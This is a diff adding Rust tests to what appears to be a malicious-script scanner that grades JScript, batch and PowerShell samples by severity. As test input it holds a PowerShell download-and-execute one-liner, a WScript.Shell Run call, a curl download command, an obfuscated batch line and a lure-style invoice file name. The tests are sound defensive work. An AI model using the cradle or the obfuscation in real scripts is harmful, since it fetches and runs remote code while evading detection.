@@ -69,3 +69,29 @@ fn downloads_and_disguise_are_seen_in_code_not_in_comments() {
     let sliced = "@echo off\nset x=abcdef\n%x:~1,1%%x:~2,1%%x:~3,1%%x:~4,1%%x:~0,1%\n";
     assert_eq!(weight(&scan(&batch::FORMAT, "a.bat", sliced.as_bytes()), "script-obfuscated"), Some(Severity::Medium));
 }
+
+#[test]
+fn a_script_given_by_itself_weighs_by_its_name_and_what_it_does() {
+    let given = |format: &FormatSpec, name: &str, text: &str| {
+        let artifact = of(name, text.as_bytes(), Origin::file(OriginKind::Input, ""));
+        weight(&scan_artifact(format, &artifact), "script-file")
+    };
+    let plain = "export function curlUp(downloadData) { return parseCurl(downloadData); }\n";
+    assert_eq!(given(&jscript::FORMAT, "viewer.js", plain), Some(Severity::Medium));
+    assert_eq!(given(&jscript::FORMAT, "請求書.js", plain), Some(Severity::High));
+    assert_eq!(given(&jscript::FORMAT, "a.js", "new ActiveXObject('WScript.Shell').Run('a');"), Some(Severity::High));
+    let tests =
+        "Describe 'x' { [scriptblock]::Create('1'); & pwsh -c 1; Write-Host \"a`nb`tc`rd`ee`nf`ng`nh`ni`nj\" }\n";
+    assert_eq!(given(&powershell::FORMAT, "x.Tests.ps1", tests), Some(Severity::Low));
+    let dropper = "iex (New-Object Net.WebClient).DownloadString('http://example.com/')\n";
+    assert_eq!(given(&powershell::FORMAT, "a.ps1", dropper), Some(Severity::High));
+    // What a mail brought weighs fully.
+    assert_eq!(weight(&scan(&powershell::FORMAT, "x.ps1", tests.as_bytes()), "script-file"), Some(Severity::High));
+}
+
+#[test]
+fn words_inside_other_words_do_not_count() {
+    let calls_out = |text: &str| weight(&scan(&jscript::FORMAT, "a.js", text.as_bytes()), "script-calls-out");
+    assert_eq!(calls_out("parseurl: curl => {}; t.ccurl = 1; function downloadData(a) {}"), None);
+    assert_eq!(calls_out("x.Run('curl -o a http://example.com/')"), Some(Severity::Medium));
+}
